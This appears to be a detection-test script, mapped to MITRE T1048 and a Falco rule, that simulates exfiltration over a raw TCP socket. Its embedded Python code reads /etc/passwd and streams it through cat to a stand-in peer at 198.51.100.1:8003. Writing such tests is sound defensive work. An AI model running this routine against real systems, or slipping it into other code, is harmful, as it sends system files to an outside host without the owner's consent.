#!/bin/sh
# title: Data streamed out by cat on a socket (cat file > /dev/tcp/...)
# technique: T1048 Exfiltration Over Alternative Protocol
# source: https://attack.mitre.org/techniques/T1048/ ; Falco "Redirect STDOUT/STDIN to Network Connection in Container"
# expect: Outbound connection by a program that never networks
# needs: python
# peer: 198.51.100.1:8003
# What bash does for `cat < fifo > /dev/tcp/198.51.100.1/8003`: the child connects, puts the
# socket on its stdout and execs cat, which streams what it is fed.
python3 -c '
import os, socket, time
r, w = os.pipe()
if os.fork() == 0:
    s = socket.create_connection(("198.51.100.1", 8003))
    os.dup2(r, 0); os.dup2(s.fileno(), 1); os.close(w); s.close()
    os.execvp("cat", ["cat"])
os.close(r)
for line in open("/etc/passwd", "rb").readlines() * 5:
    os.write(w, line); time.sleep(0.2)
os.close(w); os.wait()
'
